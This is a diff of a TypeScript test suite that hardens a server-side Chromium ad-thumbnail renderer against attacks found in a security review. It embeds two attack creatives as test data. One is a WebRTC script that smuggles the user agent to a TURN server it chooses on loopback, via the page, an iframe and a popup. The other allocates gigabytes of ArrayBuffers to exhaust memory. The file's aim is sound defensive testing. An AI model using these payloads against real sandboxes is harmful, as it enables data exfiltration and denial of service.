@@ -1,11 +1,13 @@
 // The security review's attacks on the server's renderer, against the real product rendering thumbnails
 // with real Chromium: a creative that builds loopback URLs at run time (the SSRF the review
-// found), one that never returns from its script (it held the queue 51 s), one that allocates
-// without end. The product listens on a non-loopback address (HOST) where the machine has one:
+// found), WebRTC to a TURN server of the creative's choosing (thumbnails and the runtime audit),
+// one that never returns from its script (it held the queue 51 s), ones that allocate without
+// end, in V8's heap and in ArrayBuffers. The product listens on a non-loopback address (HOST) where the machine has one:
 // the renderer needs no socket of the server's, so thumbnails still show the creative.
+import dgram from 'node:dgram'
 import fs from 'node:fs'
 import http from 'node:http'
-import type { AddressInfo } from 'node:net'
+import net, { type AddressInfo } from 'node:net'
 import os from 'node:os'
 import path from 'node:path'
 import { chromium } from 'playwright-core'
@@ -13,10 +15,13 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { zipOf } from '../../../tests/fixtures/packages.ts'
 import { pngPixels } from '../../../tests/helpers/png-pixels.ts'
 import { createTestApp, PUBLIC_URL, type TestApp, uploadPackage } from '../../../tests/helpers/test-app.ts'
+import { runAudit } from '../../creatives/runtime-audit/run-audit.ts'
 import { MAX_RENDER_SECONDS } from '../../creatives/thumbnails/config.ts'
 import { configureLogger } from '../log/logger.ts'
+import { createRendererBrowser } from './browser.ts'
 import { CHROMIUM_ARGS, findChromium } from './chromium.ts'
 import { browserProcesses, rendererNice } from './low-priority.ts'
+import { RENDERER_MEMORY_MB } from './renderer-memory.ts'
 
 const chromiumPath = findChromium(process.env.CHROMIUM_PATH)
 /** The hanging creative's render budget (RENDER_SECONDS), in place of the default 20 s. */
@@ -74,6 +79,21 @@ async function created(name: string, zip: Uint8Array, app = t): Promise<string> 
   const result = await uploadPackage(app, name, zip)
   expect(result.response.status).toBe(201)
   return result.uuid as string
+}
+
+/** Each renderer process now: its resident memory in MB, and its data limit (soft, hard). */
+function renderers(): { rss: number; dataLimit: string }[] {
+  return browserProcesses().flatMap((pid) => {
+    try {
+      if (!fs.readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes('--type=renderer')) return []
+      const rss =
+        Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) / 1024
+      const limit = /Max data size\s+(\S+)\s+(\S+)/.exec(fs.readFileSync(`/proc/${pid}/limits`, 'utf8'))
+      return [{ rss, dataLimit: `${limit?.[1]} ${limit?.[2]}` }]
+    } catch {
+      return []
+    }
+  })
 }
 
 const thumbnailFile = (uuid: string, app = t) => path.join(app.dataDir, 'blobs', 'thumbnails', `${uuid}.png`)
@@ -209,4 +229,106 @@ describe.skipIf(!chromiumPath)('the server-side renderer (Chromium found)', () =
     expect(stopped()?.why).toBe('crash')
     expect(fs.existsSync(thumbnailFile(uuid))).toBe(false)
   }, 45_000) // 16-23 s measured here beside the suite at a load of 30
+
+  it('WebRTC sends nothing: no datagram or connection reaches a TURN server on loopback, from a thumbnail or an audit', async () => {
+    const datagrams: Buffer[] = []
+    const turnUdp = dgram.createSocket('udp4').on('message', (message) => datagrams.push(message))
+    await new Promise<void>((resolve) => turnUdp.bind(0, '127.0.0.1', resolve))
+    const connections: string[] = []
+    const turnTcp = net.createServer((socket) => {
+      connections.push('tcp')
+      socket.destroy()
+    })
+    await new Promise<void>((resolve) => turnTcp.listen(0, '127.0.0.1', resolve))
+    const udpPort = turnUdp.address().port
+    const tcpPort = (turnTcp.address() as AddressInfo).port
+    // The review's attack: the creative's data in the TURN username, from the page, from a frame
+    // and from a popup it made itself (about:blank, before any script of ours ran in them, or so
+    // it hopes; the preview's opaque origin may keep it out of them anyway). What it found is
+    // thrown, for the audit to see.
+    const attack = `
+      const loop = [127, 0, 0, 1].join('.');
+      const iceServers = [{ urls: ['turn:' + loop + ':${udpPort}?transport=udp', 'stun:' + loop + ':${udpPort}',
+        'turn:' + loop + ':${tcpPort}?transport=tcp'], username: 'exfiltrated-' + navigator.userAgent, credential: 'x' }];
+      const frame = document.createElement('iframe'); document.body.appendChild(frame);
+      const found = [];
+      const reach = (get) => { try { return get() } catch {} };
+      for (const scope of [window, frame.contentWindow, window.open('about:blank')])
+        for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection'])
+          if (reach(() => scope[name])) {
+            found.push(name);
+            const pc = new scope[name]({ iceServers }); pc.createDataChannel('x');
+            pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+          }
+      if (found.length) throw new Error('WebRTC reachable: ' + found.join(', '))`
+    const uuid = await created('webrtc.zip', creative(attack))
+    const auditBrowser = createRendererBrowser(chromiumPath!)
+    try {
+      const audited = await runAudit(() => auditBrowser.open(), {
+        uuid,
+        sandbox: { previewOrigin: PUBLIC_URL, fetchPreview: async (request) => t.app.fetch(request) },
+        adSize: { width: 300, height: 250 },
+        windowMs: 1500,
+      })
+      expect(audited.errorMessages).toEqual([])
+      await expect.poll(() => fs.existsSync(thumbnailFile(uuid)), { timeout: 30_000 }).toBe(true)
+      expect(datagrams.map((datagram) => datagram.toString('latin1'))).toEqual([])
+      expect(connections).toEqual([])
+      // Beneath the script and the flag: both browsers (the product's, the audit's) have a
+      // network namespace of their own, none of this machine's interfaces.
+      const namespaces = browserProcesses().flatMap((pid) => {
+        try {
+          return [fs.readlinkSync(`/proc/${pid}/ns/net`)]
+        } catch {
+          return []
+        }
+      })
+      expect(namespaces.length).toBeGreaterThan(0)
+      expect(namespaces).not.toContain(fs.readlinkSync('/proc/self/ns/net'))
+    } finally {
+      await auditBrowser.close()
+      turnUdp.close()
+      turnTcp.close()
+    }
+  }, 45_000) // 13-22 s measured here beside the suite at a load of 17-23 (an audit's Chromium, its two runs, a thumbnail)
+
+  it(`ArrayBuffers of 3 GB leave each renderer under ${RENDERER_MEMORY_MB} MB, popups included, and the server answers`, async () => {
+    // 64 MB at a time, each written (resident), in the page and in a popup of its own, which
+    // would be a renderer of its own; an allocation refused is caught, as an attacker would.
+    const hoard = `
+      if (!location.search.includes('popup')) window.open(location.href.split('?')[0] + '?popup', '_blank', 'noopener');
+      const kept = [];
+      try { for (let i = 0; i < 48; i++) { const buffer = new ArrayBuffer(64 << 20); new Uint8Array(buffer).fill(1); kept.push(buffer) } } catch {}
+      document.body.append(String(kept.length))`
+    let peakEach = 0
+    let peakAll = 0
+    // Read while the renderers live: they end with their render.
+    const limits = new Set<string>()
+    const uuid = await created('buffers.zip', creative(hoard))
+    const over = () => fs.existsSync(thumbnailFile(uuid)) || logsOf(uuid).some((record) => record.why)
+    await expect
+      .poll(
+        () => {
+          const now = renderers()
+          for (const { dataLimit } of now) limits.add(dataLimit)
+          peakEach = Math.max(peakEach, ...now.map(({ rss }) => rss))
+          peakAll = Math.max(
+            peakAll,
+            now.reduce((sum, { rss }) => sum + rss, 0),
+          )
+          return over()
+        },
+        { timeout: 40_000, interval: 100 },
+      )
+      .toBe(true)
+    console.info(
+      `3 GB of ArrayBuffers: renderer peak ${Math.round(peakEach)} MB, all renderers ${Math.round(peakAll)} MB`,
+    )
+    // Soft and hard, on every renderer seen: a renderer cannot raise its own.
+    const bytes = RENDERER_MEMORY_MB * 1024 * 1024
+    expect([...limits]).toEqual([`${bytes} ${bytes}`])
+    expect(peakEach).toBeLessThan(RENDERER_MEMORY_MB)
+    expect(peakAll).toBeLessThan(RENDERER_MEMORY_MB * 1.5)
+    expect((await fetch(`${appOrigin}/ads-preview/health`)).status).toBe(200)
+  }, 45_000) // 8-18 s measured here beside the suite at a load of 17-23
 })
